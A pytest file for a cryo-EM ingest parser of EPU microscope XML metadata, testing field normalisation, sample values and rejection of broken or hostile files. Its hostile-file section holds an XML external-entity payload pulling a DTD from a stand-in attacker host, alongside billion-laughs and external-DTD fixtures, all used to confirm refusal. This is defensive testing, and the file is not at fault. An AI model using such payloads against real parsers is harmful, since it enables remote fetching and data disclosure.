"""EPU per-movie XML: flattening, normalised fields, and hostile or broken files."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest

from ingest.formats.base import FileFormat
from ingest.formats.epu import MAX_DEPTH, MAX_XML_BYTES, extract, image_kind
from tests.support.formats import (
    BILLION_LAUGHS,
    EXTERNAL_DTD,
    EXTERNAL_ENTITY,
    epu_xml,
)

REPO = Path(__file__).resolve().parents[2]


class MemorySource:
    """A ByteSource over bytes, counting reads (a hostile file must not be read at all)."""

    def __init__(self, data: bytes, size: int | None = None):
        self.data = data
        self.size = len(data) if size is None else size
        self.reads = 0

    def read_at(self, offset: int, length: int) -> bytes:
        self.reads += 1
        return self.data[offset : offset + length]


def samples_dir() -> Path:
    path = Path(os.environ.get("OPENEM_SAMPLES_DIR", REPO.parent / "shared" / "samples"))
    if not (path / "epu").is_dir():
        pytest.skip(f"real EM samples not found in {path}/epu: set OPENEM_SAMPLES_DIR")
    return path


# -- well-formed files ------------------------------------------------------------------------


def test_synthetic_file_gives_raw_and_normalised_values() -> None:
    result = extract(MemorySource(epu_xml()), name_hint="x/FoilHole_1_Data_2_3_20240901.xml")
    assert result.format == FileFormat.EPU_XML
    assert result.errors == [] and result.warnings == []
    header = result.header
    assert header["sidecar"] == "epu" and header["mapping"] == "1.0.2"
    assert header["epu_image_kind"] == "data"
    assert header["raw"]["CustomData.Aperture[C2].Name"] == "50"
    assert header["raw"]["microscopeData.optics.BeamShift._x"] == "0.125"
    assert "IntensityScale" not in header["raw"]  # i:nil elements are absent, not ""
    expected = {
        "voltage": 300.0,  # kV
        "pixel_size": 1.06,  # Å
        "defocus_calibrated": -2500.0,  # nm
        "defocus_nominal": -2000.0,  # nm
        "dose": 40.0,  # e/Å^2, from e/m^2
        "exposure_time": 1.5,  # s
        "magnification": 130000,
        "c2_aperture": 50.0,  # um
        "detector_name": "Falcon 4i",
        "microscope_model": "Krios G4",
        "software": "EPU",
        "software_version": "3.8.1",
        "acquisition_time": "2024-09-01T06:01:10.003929+02:00",
        "image_width": 5760,
        "image_height": 4092,
        "binning_x": 2,
        "energy_filter_used": False,
        "energy_filter_width": 20.0,
        "phase_plate_used": True,
        "beam_shift_x": 0.125,
        "beam_tilt_y": -0.75,
        "image_shift_y": 2.0,
        "illumination": "Parallel",
        "imaging": "BrightField",
        "electron_source": "FieldEmission",
    }
    assert {key: header.get(key) for key in expected} == pytest.approx(expected)
    json.dumps(header)  # stored as is in a JSON column


def test_values_that_do_not_parse_become_warnings_not_errors() -> None:
    data = epu_xml(voltage="three hundred", defocus="NaN")
    result = extract(MemorySource(data))
    assert result.errors == []
    assert "voltage" not in result.header and "defocus_calibrated" not in result.header
    assert any("AccelerationVoltage" in w and "not a number" in w for w in result.warnings)
    assert any("Defocus" in w and "finite" in w for w in result.warnings)


def test_pixel_size_unit_other_than_metres_is_flagged() -> None:
    data = epu_xml().replace(
        b"<x><numericValue>",
        b"<x><unit><_x003C_Symbol_x003E_k__BackingField>nm</_x003C_Symbol_x003E_k__BackingField>"
        b"</unit><numericValue>",
    )
    result = extract(MemorySource(data))
    assert any("pixel size unit is 'nm'" in w for w in result.warnings)


def test_repeated_siblings_are_kept_apart() -> None:
    data = epu_xml().replace(b"<name>Empty</name>", b"<name>a</name><name>b</name>")
    raw = extract(MemorySource(data)).header["raw"]
    assert raw["name"] == "a" and raw["name[1]"] == "b"


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("Images-Disc1/GridSquare_1/Data/FoilHole_3_Data_4_5_20240901_060108.xml", "data"),
        ("FoilHole_31933450_20240901_055959.xml", "foilhole"),
        ("GridSquare_20240901_050000.xml", "gridsquare"),
        ("Atlas_1.xml", "atlas"),
        ("C:\\EPU\\FoilHole_1_Data_2.xml", "data"),
        ("", "unknown"),
    ],
)
def test_image_kind_from_name(name: str, kind: str) -> None:
    assert image_kind(name) == kind


def test_real_sample_files() -> None:
    folder = samples_dir() / "epu"
    files = sorted(folder.glob("FoilHole_*_Data_*.xml"))
    assert len(files) == 2
    result = extract(MemorySource(files[0].read_bytes()), name_hint=files[0].name)
    assert result.errors == [] and result.warnings == []
    header = result.header
    assert header["voltage"] == 300.0
    assert header["pixel_size"] == pytest.approx(0.41501527908716085, rel=1e-12)
    assert header["defocus_calibrated"] == pytest.approx(-3080.7366167174478, rel=1e-12)
    assert header["defocus_nominal"] == -400.0
    assert header["dose"] == pytest.approx(28.504761345318018, rel=1e-12)
    assert header["exposure_time"] == 0.619959
    assert header["detector_name"] == "Falcon 4i"
    assert header["acquisition_time"] == "2024-09-01T06:01:10.041501+02:00"
    # EPU's InstrumentModel is the computer name: the model, with the serial kept apart
    assert header["microscope_model"] == "Titan Krios"
    assert header["microscope_serial"] == "52339260"
    assert header["raw"]["microscopeData.instrument.InstrumentModel"] == "TITAN52339260"
    assert header["software_version"] == "3.8.1.7603"
    assert header["energy_filter_used"] is True and header["energy_filter_width"] == 10.0
    assert header["phase_plate_used"] is False
    assert "c2_aperture" in header and header["c2_aperture"] == 20.0
    # Dose is per area; DoseOnCamera per pixel: the file itself ties them by the pixel area.
    assert header["dose"] * header["pixel_size"] ** 2 == pytest.approx(header["dose_on_camera"])


# -- broken and hostile files -------------------------------------------------------------------


PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<MicroscopeImage/>"""


@pytest.mark.parametrize(
    "payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY]
)
def test_hostile_xml_is_refused_quickly(payload: bytes) -> None:
    started = time.monotonic()
    result = extract(MemorySource(payload), name_hint="FoilHole_1_Data_2.xml")
    assert time.monotonic() - started < 2.0
    assert result.format == FileFormat.EPU_XML
    assert len(result.errors) == 1
    assert "refused" in result.errors[0] and "DTD" in result.errors[0]
    assert result.header == {}


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (b"<MicroscopeImage><name>x</nam></MicroscopeImage>", "malformed XML: mismatched tag"),
        (b"<MicroscopeImage><name>x", "malformed XML: no element found"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "malformed XML"),
        (b"not xml at all", "malformed XML: syntax error: line 1, column 0"),
        (b"<EpuSession><x>1</x></EpuSession>", "root element is <EpuSession>"),
    ],
)
def test_broken_xml_gives_a_clear_error(payload: bytes, message: str) -> None:
    result = extract(MemorySource(payload))
    assert len(result.errors) == 1
    assert message in result.errors[0]
    assert result.errors[0].startswith("EPU XML: ")


def test_empty_file() -> None:
    result = extract(MemorySource(b""))
    assert result.errors == ["EPU XML: the file is empty"]


def test_oversized_file_is_refused_before_reading() -> None:
    source = MemorySource(b"", size=MAX_XML_BYTES + 1)
    result = extract(source)
    assert "are refused" in result.errors[0]
    assert source.reads == 0


def test_truncated_read_is_reported() -> None:
    data = epu_xml()
    result = extract(MemorySource(data[:100], size=len(data)))
    assert "truncated" in result.errors[0]


def test_deep_nesting_is_refused() -> None:
    depth = MAX_DEPTH + 5
    data = b"<MicroscopeImage>" + b"<a>" * depth + b"1" + b"</a>" * depth + b"</MicroscopeImage>"
    result = extract(MemorySource(data))
    assert "nested deeper than" in result.errors[0]


@pytest.mark.parametrize(
    ("written", "model", "serial"),
    [
        ("TITAN52339260", "Titan Krios", "52339260"),
        ("GLACIOS-9953123", "Glacios", "9953123"),
        ("Titan Krios G4", "Titan Krios G4", ""),
        ("MYSCOPE12345", "MYSCOPE12345", ""),
    ],
)
def test_microscope_model_names_are_not_serial_numbers(written, model, serial):
    from ingest.formats.epu import microscope_name

    assert microscope_name(written) == (model, serial)
